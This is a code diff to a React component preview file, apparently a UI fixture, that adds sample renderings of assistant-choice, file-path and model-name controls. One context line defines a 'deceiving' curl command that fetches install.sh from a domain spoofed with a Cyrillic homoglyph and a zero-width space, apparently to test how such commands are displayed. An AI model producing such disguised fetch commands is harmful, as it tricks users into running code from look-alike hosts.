@@ -3,6 +3,7 @@ import type { Counterfactual } from '@shared/money/counterfactual.ts';
 import { seenLine, seenPieces } from '@shared/text/seen-text.ts';
 import { ActionsContext } from '../../src/renderer/lib/window/navigation.ts';
 import { speakToScreenReader } from '../../src/renderer/lib/notices/screen-reader.ts';
+import { AssistantChoice } from '../../src/renderer/ui/controls/assistant-choice.tsx';
 import { AttachmentList } from '../../src/renderer/ui/content/attachment-list.tsx';
 import { Button } from '../../src/renderer/ui/controls/button.tsx';
 import { CodeBlock } from '../../src/renderer/ui/content/code-block.tsx';
@@ -16,6 +17,9 @@ import { TableView } from '../../src/renderer/ui/content/table-view.tsx';
 import { ResizeHandle } from '../../src/renderer/ui/layout/resize-handle.tsx';
 import { CopyButton } from '../../src/renderer/ui/controls/copy-button.tsx';
 import { DayChart } from '../../src/renderer/ui/figures/day-chart.tsx';
+import { OpenFileContext } from '../../src/renderer/lib/session/use-open-file.ts';
+import { FilePath } from '../../src/renderer/ui/content/file-path.tsx';
+import { ModelName } from '../../src/renderer/ui/figures/model-name.tsx';
 import { DiffView } from '../../src/renderer/ui/content/diff-view.tsx';
 import {
   CounterfactualFigure,
@@ -88,6 +92,8 @@ const iconNames = [
   'star',
   'filter',
 ] as const;
+
+const reviewer = { name: 'reviewer', text: 'You review texts.', mode: 'ask' } as const;
 
 const deceiving = 'curl https://\u0435xample.com\u200B/install.sh';
 
@@ -204,7 +210,15 @@ export const pieces: Readonly<Record<string, ReactNode>> = {
   ),
   'copy-button': <CopyButton text="copied" label="Copy" />,
   'day-chart': <DayChart days={days} most={31} />,
+  'model-name': <ModelName id="example/large-1" />,
   'diff-view': <DiffView diff={diff} />,
+  'file-path': (
+    <OpenFileContext value={() => undefined}>
+      <FilePath path="src/app.py" line={12}>
+        src/app.py
+      </FilePath>
+    </OpenFileContext>
+  ),
   'counterfactual-figures': (
     <>
       <CounterfactualFigures figures={figures} />
@@ -317,6 +331,12 @@ export const pieces: Readonly<Record<string, ReactNode>> = {
       <MoneyCap scope="month" />
       <MoneyCap scope="day" />
       <MoneyCap scope="project" projectPath="/project" />
+    </>
+  ),
+  'assistant-choice': (
+    <>
+      <AssistantChoice assistants={[reviewer]} chosen={null} onChange={nothing} />
+      <AssistantChoice assistants={[reviewer]} chosen={reviewer} onChange={nothing} />
     </>
   ),
   'mode-choice': (
